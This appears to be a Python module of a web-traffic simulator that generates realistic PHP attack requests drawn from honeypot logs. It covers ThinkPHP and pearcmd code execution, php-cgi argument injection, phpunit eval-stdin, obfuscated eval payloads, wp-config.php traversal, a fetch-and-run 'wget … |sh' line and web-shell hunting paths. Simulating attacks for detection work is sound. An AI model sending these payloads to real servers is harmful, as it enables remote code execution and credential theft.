"""PHP: exploits of frameworks and configuration, code in parameters, and the hunt for shells that others left behind.

Sources: published honeypot logs (ThinkPHP, phpunit, pearcmd, CVE-2024-4577, CVE-2012-1823), Wordfence on plugin exploits,
lists of web-shell names in abuse reports, China Chopper analyses.
"""

# fmt: off
# Declarations read better a line each than an element each.
from __future__ import annotations

import base64
from random import Random

from simulator.payloads import wire
from simulator.payloads.aim import Aim, Shot
from simulator.web.words import identifier

_SHELLS = """\
alfa wso c99 r57 b374k shell up upload cmd mini x xx 1 0 404 about radio wp-22 moduless gank chosen bypass marijuana adminer file fm lock360 ok style
doc max simple dropdown content mah atomlib autoload_classmap goods cong gecko lv wp-conflg inputs ws defau1t simattacker""".split()
_PLACES = ("", "", "wp-content/", "wp-content/uploads/", "wp-content/plugins/", "wp-includes/", "wp-admin/", "wp-admin/css/colors/", "uploads/",
    "images/", "css/", ".well-known/", ".well-known/acme-challenge/", "vendor/", "assets/", "wp-content/themes/", "cgi-bin/", "files/",
    "wp-admin/maint/", "ALFA_DATA/alfacgiapi/")


def _code(rng: Random) -> str:
    n = rng.randrange(1000, 99999)
    return rng.choice((f"echo md5({n});", "phpinfo();", "system('id');", f"print({n}*{n});", "die('z'.md5(3));", f"var_dump(md5({n}));",
        "passthru('whoami');"))


def hunters(rng: Random, aim: Aim) -> Shot:
    """Names of shells, place by place."""
    place = rng.choice(_PLACES)
    if place == "wp-content/plugins/":
        place += rng.choice(("hellopress/wp_filemanager", "core-plugin/include", "seoplugins/mar", "wp-catcher/index", "instabuilder2/cache/up",
            "apikey/apikey", "fix/up", identifier(rng, 6) + "/index"))
        return Shot(f"/{place}.php")
    name = rng.choice(_SHELLS) + (rng.choice(("", "", str(rng.randrange(1, 99)), "v4")))
    return Shot(f"/{place}{name}.{rng.choice(('php', 'php', 'php', 'php7', 'phtml', 'PhP7', 'php.suspected'))}",
        rng.choice(("", "", "", f"p={identifier(rng, 3)}", "cmd=id", "c=whoami", "act=ls&d=%2F", "Action=uploadfile")))


def thinkphp(rng: Random, aim: Aim) -> Shot:
    """ThinkPHP's open methods."""
    function, argument = rng.choice((("md5", identifier(rng, 8)), ("system", "id"), ("phpinfo", str(rng.choice((1, -1)))),
        ("shell_exec", "wget http://" + identifier(rng, 6) + ".top/x.sh -O-|sh"), ("assert", "print(1)"),
        ("file_put_contents", identifier(rng, 4) + ".php")))
    module = rng.choice(("index", "Index", "manage", "admin", "home"))
    slash = rng.choice(("\\", "%5C", "/\\"))
    query = rng.choice((
        f"s=/{module}/{slash}think{slash}app/invokefunction&function=call_user_func_array&vars[0]={function}&vars[1][]={wire.library(rng, argument)}",
        f"s={module}/think{slash}request/input?data[]={wire.library(rng, argument)}&filter={function}", f"s=captcha&test={rng.choice((-1, 1))}",
        f"s=/{module}/{slash}think{slash}template{slash}driver{slash}file/write&cacheFile={identifier(rng, 5)}.php&content=%3C%3Fphp%20{wire.library(rng, _code(rng))}",
        f"lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?={function}({rng.randrange(99)})?>+/tmp/{identifier(rng, 5)}.php",
        "a=display&templateFile=README.md", f"a=fetch&content=<php>die(@md5({identifier(rng, 8)}))</php>",
    ))
    return Shot(rng.choice(("/index.php", "/public/index.php", "/thinkphp/html/public/index.php", "/html/public/index.php", "/")), query,
        method="POST" if "captcha" in query else "GET")


def components(rng: Random, aim: Aim) -> Shot:
    """Files of libraries that evaluate what is posted, wherever a vendor folder may be."""
    base = rng.choice(("/vendor/", "/", "/lib/", "/laravel/vendor/", "/www/vendor/", "/ws/vendor/", "/yii/vendor/", "/zend/vendor/", "/ws/ec/vendor/",
        "/V2/vendor/", "/tests/vendor/", "/cms/vendor/", "/crm/vendor/", "/demo/vendor/", "/panel/vendor/", "/public/vendor/", "/apps/vendor/",
        "/backup/vendor/", "/blog/vendor/", "/app/vendor/", "/admin/vendor/", "/api/vendor/"))
    return rng.choice((
        Shot(base + rng.choice(("phpunit/phpunit/src/Util/PHP/eval-stdin.php", "phpunit/src/Util/PHP/eval-stdin.php",
        "phpunit/Util/PHP/eval-stdin.php", "phpunit/phpunit/Util/PHP/eval-stdin.php")), method=rng.choice(("GET", "POST")), body=60),
        Shot("/_ignition/execute-solution", method=rng.choice(("GET", "POST")), body=300),
        Shot("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", rng.choice(("", "cmd=upload")), method=rng.choice(("GET", "POST")),
        body=800), Shot("/phpmyadmin/scripts/setup.php"), Shot("/sites/default/files/" + identifier(rng, 6) + ".php"),
        Shot("/user/register", "element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", method="POST", body=220),
        Shot("/index.php", "option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&method=form&cid=20", method="POST", body=600),
        Shot("/wp-admin/admin-ajax.php",
        f"action={rng.choice(('revslider_show_image&img=../wp-config.php', 'duplicator_download&file=../wp-config.php', 'wpgdprc_process_action', 'uploadFontIcon'))}"),
        Shot("/?q=node&destination=node", method="POST", body=400),
    ))


def plugins(rng: Random, aim: Aim) -> Shot:
    """WordPress plugins with known holes, asked for by version file or exploited at once."""
    plugin = rng.choice(("elementor", "wp-file-manager", "revslider", "duplicator", "really-simple-ssl", "litespeed-cache",
        "essential-addons-for-elementor-lite", "woocommerce-payments", "bricks", "ultimate-member", "backup-backup", "wp-automatic", "hunk-companion",
        "forminator", "give", "post-smtp", "wpdiscuz"))
    return rng.choice((Shot(f"/wp-content/plugins/{plugin}/readme.txt"), Shot(f"/wp-content/plugins/{plugin}/changelog.txt"),
        Shot("/wp-json/wp/v2/users", "per_page=100"), Shot("/", "author=" + str(rng.randrange(1, 12))), Shot("/", "rest_route=/wp/v2/users"),
        Shot(f"/wp-content/plugins/{plugin}/{rng.choice(('upload', 'import', 'download', 'ajax', 'proxy'))}.php", "file=../../../wp-config.php"),
        Shot("/wp-json/bricks/v1/render_element", method="POST", body=500), Shot("/wp-content/debug.log"),
        Shot(f"/wp-content/plugins/{plugin}/inc/csv.php", f"q=%27+OR+{rng.randrange(9)}--")))


def evaluated(rng: Random, aim: Aim) -> Shot:
    """PHP code itself in a parameter, wrapped so that no function name stands there plainly."""
    code = _code(rng)
    packed = base64.b64encode(code.encode()).decode()
    text = rng.choice((f"@eval(base64_decode('{packed}'));", f"<?php {code} ?>", "<?= `id` ?>", f"assert($_REQUEST['{identifier(rng, 2)}'])",
        f"${{@{code.rstrip(';')}}}", f"{{${{{code.rstrip(';')}}}}}", f"@ini_set(\"display_errors\",\"0\");@set_time_limit(0);echo(\"->|\");{code}",
        f"';{code}//", f"array_map('ass'.'ert',array('{code}'))", "$f=str_rot13('flfgrz');$f('id')", f"create_function('','}}{code}//')",
        f"preg_replace('/.*/e','{code}','')", f"<script language=php>{code}</script>"))
    return Shot(rng.choice(("/index.php", "/config.php", "/", "/plus/mytag_js.php", "/data/cache/asd.php", "/api.php", "/utility/convert/index.php")),
        f"{rng.choice(('a', 'c', 'x', 'z0', 'pass', 'code', 'data', 'aid', identifier(rng, 3)))}={rng.choice((wire.library, wire.curl, wire.form))(rng, text)}",
        method=rng.choice(("GET", "GET", "POST")))


def settings(rng: Random, aim: Aim) -> Shot:
    """PHP's own options by query: CGI argument injection old and new, pearcmd, FPM's newline."""
    dash = rng.choice(("-", "%AD", "%ad"))
    options = rng.choice((f"{dash}d+allow_url_include%3d1+{dash}d+auto_prepend_file%3dphp://input",
        f"{dash}d+allow_url_include%3Don+{dash}d+safe_mode%3Doff+{dash}d+auto_prepend_file%3Dphp%3A%2F%2Finput+{dash}n", f"{dash}s",
        "%ADd+cgi.force_redirect%3d0+%ADd+disable_functions%3D%22%22+%ADd+auto_prepend_file%3dphp://input"))
    return rng.choice((Shot(rng.choice(("/hello.world", "/php-cgi/php-cgi.exe", "/index.php", "/cgi-bin/php", "/test.php", "/cgi-bin/php-cgi")),
        options, method=rng.choice(("POST", "GET")), body=50), Shot("/index.php",
        f"+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?={rng.choice(('phpinfo()', 'eval($_GET[1])'))}?>+/tmp/{identifier(rng, 6)}.php"),
        Shot("/index.php/PHP%0Ais_the_shittiest_lang.php", "Q" * rng.randrange(80, 220)), Shot("/.user.ini"),
        Shot("/index.php", f"-dauto_prepend_file=/tmp/{identifier(rng, 4)}"), Shot("/fpm/status", "full"),
        Shot("/xdebug.php", f"XDEBUG_SESSION_START={identifier(rng, 8)}")))
